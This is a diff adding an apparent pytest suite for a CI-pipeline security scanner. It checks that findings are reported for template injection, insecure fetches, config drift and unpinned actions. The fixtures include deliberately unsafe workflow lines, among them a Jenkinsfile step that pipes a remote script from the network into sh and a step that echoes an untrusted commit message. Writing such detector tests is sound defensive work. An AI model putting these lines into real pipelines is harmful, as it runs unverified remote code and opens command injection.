@@ -1,0 +1,104 @@
+"""`gatekeeper check` end to end on real git repositories, pipeline kind only."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from pathlib import Path
+
+import git
+import pytest
+
+from gatekeeper.cli import main
+from tests.conftest import commit_files
+
+SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
+OLD = f"""on: push
+permissions: {{contents: read}}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@{SHA}
+      - run: curl -k https://internal.example/tool -o tool
+"""
+
+
+def _check(repo: Path, *args: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:
+    code = main(["check", str(repo), "--only", "pipeline", "--format", "json", *args])
+    return code, json.loads(capsys.readouterr().out)
+
+
+def test_check_blocks_on_new_injection_and_marks_base_findings_existing(
+    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = Path(git_repo.working_tree_dir or ".")
+    commit_files(git_repo, {".github/workflows/ci.yml": OLD}, "ci")
+    git_repo.create_tag("base")
+    code, report = _check(root, capsys=capsys)
+    assert code == 0 and report["verdict"] == "pass"  # insecure-fetch is medium
+    commit_files(git_repo, {".github/workflows/ci.yml": "# moved down\n" + OLD + (
+        "      - run: echo \"${{ github.event.head_commit.message }}\"\n")}, "ci: print message")
+    code, report = _check(root, "--base", "base", capsys=capsys)
+    assert code == 1 and report["verdict"] == "block"
+    by_rule = {f["rule"]: f for f in report["findings"]}
+    assert by_rule["pipeline/template-injection"]["line"] == 10
+    assert by_rule["pipeline/template-injection"].get("status") is None
+    # the old finding moved a line down but keeps its fingerprint: it is "existing"
+    assert by_rule["pipeline/insecure-fetch"]["line"] == 9
+    assert by_rule["pipeline/insecure-fetch"]["status"] == "existing"
+
+
+def test_malformed_workflow_blocks_but_others_are_still_reported(
+    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = Path(git_repo.working_tree_dir or ".")
+    commit_files(git_repo, {
+        ".github/workflows/bad.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: [unclosed\n",
+        ".github/workflows/ok.yml": OLD,
+    }, "ci")
+    code, report = _check(root, capsys=capsys)
+    assert code == 1
+    rules = sorted((f["rule"], f["path"]) for f in report["findings"])
+    assert ("pipeline/parse-error", ".github/workflows/bad.yml") in rules
+    assert ("pipeline/insecure-fetch", ".github/workflows/ok.yml") in rules
+    error = next(f for f in report["findings"] if f["rule"] == "pipeline/parse-error")
+    assert error["line"] == 6
+
+
+def test_config_drift_from_policy(
+    git_repo: git.Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = Path(git_repo.working_tree_dir or ".")
+    commit_files(git_repo, {"Jenkinsfile": "node { sh 'make' }\n"}, "jenkins")
+    approved = hashlib.sha256(b"node { sh 'make' }\n").hexdigest()
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(
+        "version: 1\nname: drift\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
+        f"  approved_pipeline_digests:\n    Jenkinsfile: sha256:{approved}\n"
+    )
+    code, report = _check(root, "--policy", str(policy), capsys=capsys)
+    assert code == 0 and report["findings"] == []
+    commit_files(git_repo, {"Jenkinsfile": "node { sh 'make && curl https://x.io/i | sh' }\n"},
+                 "jenkins: more")
+    code, report = _check(root, "--policy", str(policy), capsys=capsys)
+    assert code == 1
+    assert {f["rule"] for f in report["findings"]} == {"pipeline/config-drift",
+                                                        "pipeline/remote-script"}
+
+
+def test_policy_can_raise_unpinned_action_severity(
+    git_repo: git.Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = Path(git_repo.working_tree_dir or ".")
+    commit_files(git_repo, {".github/workflows/ci.yml": OLD.replace(
+        f"actions/checkout@{SHA}", "third/party@v1").replace(
+        "      - run: curl -k https://internal.example/tool -o tool\n", "")}, "ci")
+    code, _ = _check(root, capsys=capsys)
+    assert code == 0
+    policy = tmp_path / "policy.yaml"
+    policy.write_text("version: 1\nname: strict\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
+                      "  rules:\n    pipeline/unpinned-action: {severity: high}\n")
+    code, report = _check(root, "--policy", str(policy), capsys=capsys)
+    assert code == 1
+    assert [f["severity"] for f in report["findings"]] == ["high"]
